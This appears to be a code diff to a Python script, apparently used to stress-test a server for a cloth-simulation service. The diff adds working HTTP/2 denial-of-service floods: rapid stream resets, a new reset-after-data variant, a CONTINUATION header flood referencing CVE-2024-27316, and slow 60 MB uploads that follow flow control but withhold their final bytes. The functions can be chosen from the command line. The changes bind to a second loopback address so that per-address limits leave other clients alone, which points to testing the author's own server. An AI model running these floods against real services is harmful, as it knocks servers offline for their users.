@@ -2,6 +2,7 @@
 
 import os
 import pathlib
+import select
 import socket
 import struct
 import sys
@@ -16,10 +17,17 @@ import drape.mesh
 from drape import ClothSpec, Collider, Environment, Grid
 
 RINGS = 256  # 2 RINGS^2 triangles: as many as a server takes
-HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
 END_HEADERS = 4
+ACKNOWLEDGED = 1
+INITIAL_WINDOW_SIZE = 4
+LARGEST_PAYLOAD = 16384
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 OPENED_AT_ONCE = 100
+MESSAGE_BYTES = 60_000_000
+UPLOADS = 8  # of a connection
+# Of this machine, but not that of other clients: limits are per address.
+OWN_ADDRESS = ("127.0.0.2", 0)
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -39,7 +47,7 @@ def request_headers():
 
 def connected(address):
     host, port = address.split(":")
-    connection = socket.create_connection((host, int(port)), timeout=5)
+    connection = socket.create_connection((host, int(port)), timeout=5, source_address=OWN_ADDRESS)
     connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
     return connection
 
@@ -63,6 +71,14 @@ def rapid_reset(address):
         for stream in range(first, first + 2 * OPENED_AT_ONCE, 2)))
 
 
+def messages_reset(address):
+    """Streams are opened with an empty message and reset at once."""
+    headers, reset = request_headers(), struct.pack(">I", 8)
+    flood(address, lambda first: b"".join(
+        frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 0, stream, bytes(5)) + frame(RST_STREAM, 0, stream, reset)
+        for stream in range(first, first + 2 * OPENED_AT_ONCE, 2)))
+
+
 def continuation(address):
     """Headers that never end (CVE-2024-27316)."""
     endless = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)
@@ -70,20 +86,82 @@ def continuation(address):
 
 
 def half_messages(address):
-    """Many connections, each with a message of 60 MB whose last byte never comes."""
+    """Many connections, each with the begin of a message of 60 MB."""
     connections = []
     while True:
         try:
             connection = connected(address)
             connections.append(connection)
             connection.sendall(frame(HEADERS, END_HEADERS, 1, request_headers()))
-            body = struct.pack(">BI", 0, 60_000_000) + bytes(16000)
+            body = struct.pack(">BI", 0, MESSAGE_BYTES) + bytes(16000)
             for _ in range(4):  # as much as a window that is never renewed
-                connection.sendall(frame(0, 0, 1, body[:16000]))
+                connection.sendall(frame(DATA, 0, 1, body[:16000]))
         except OSError:
             time.sleep(0.01)
         if len(connections) % 500 == 499:
             time.sleep(0.1)
+
+
+def frames(connection):
+    """Kind, flags, stream and payload of all that comes; None where nothing has come for a second."""
+    received = b""
+    while True:
+        while len(received) >= 9 and len(received) >= (end := 9 + int.from_bytes(received[:3], "big")):
+            yield received[3], received[4], int.from_bytes(received[5:9], "big"), received[9:end]
+            received = received[end:]
+        if select.select([connection], [], [], 1)[0]:
+            some = connection.recv(1 << 16)
+            if not some:
+                raise OSError("closed")
+            received += some
+        else:
+            yield None
+
+
+def upload(connection):
+    """UPLOADS messages at once, as fast as the windows allow (RFC 9113, 5.2), all but their last bytes."""
+    streams = range(1, 2 * UPLOADS, 2)
+    initial, whole = 65535, 65535  # windows: of a new stream, of the connection
+    window = dict.fromkeys(streams, initial)
+    left = dict.fromkeys(streams, MESSAGE_BYTES)
+    for stream in streams:
+        connection.sendall(frame(HEADERS, END_HEADERS, stream, request_headers()))
+        connection.sendall(frame(DATA, 0, stream, struct.pack(">BI", 0, MESSAGE_BYTES)))
+        window[stream] -= 5
+        whole -= 5
+    for came in frames(connection):
+        match came:
+            case (kind, _, 0, payload) if kind == WINDOW_UPDATE:
+                whole += int.from_bytes(payload, "big")
+            case (kind, _, stream, payload) if kind == WINDOW_UPDATE and stream in window:
+                window[stream] += int.from_bytes(payload, "big")
+            case (kind, 0, _, payload) if kind == SETTINGS:
+                for name, value in struct.iter_unpack(">HI", payload):
+                    if name == INITIAL_WINDOW_SIZE:
+                        window = {stream: size + value - initial for stream, size in window.items()}
+                        initial = value
+                connection.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
+        for stream in streams:
+            while (size := min(LARGEST_PAYLOAD, left[stream] - 1000, window[stream], whole)) > 0:
+                connection.sendall(frame(DATA, 0, stream, bytes(size)))
+                left[stream] -= size
+                window[stream] -= size
+                whole -= size
+
+
+def uploads(address):
+    """Messages of 60 MB whose last bytes never come, on four connections."""
+    def again():
+        while True:
+            try:
+                with connected(address) as connection:
+                    upload(connection)
+            except OSError:
+                time.sleep(0.01)
+
+    for _ in range(4):
+        threading.Thread(target=again, daemon=True).start()
+    time.sleep(1e9)
 
 
 def ball(random):
@@ -123,12 +201,15 @@ def builds(address, token):
     time.sleep(1e9)
 
 
+FLOODS = {flood.__name__: flood for flood in (rapid_reset, messages_reset, continuation, half_messages, uploads)}
+
+
 def main():
     kind, address, *rest = sys.argv[1:]
     if kind == "builds":
         builds(address, pathlib.Path(rest[0]).read_text() if rest else None)
     else:
-        {"rapid_reset": rapid_reset, "continuation": continuation, "half_messages": half_messages}[kind](address)
+        FLOODS[kind](address)
 
 
 if __name__ == "__main__":
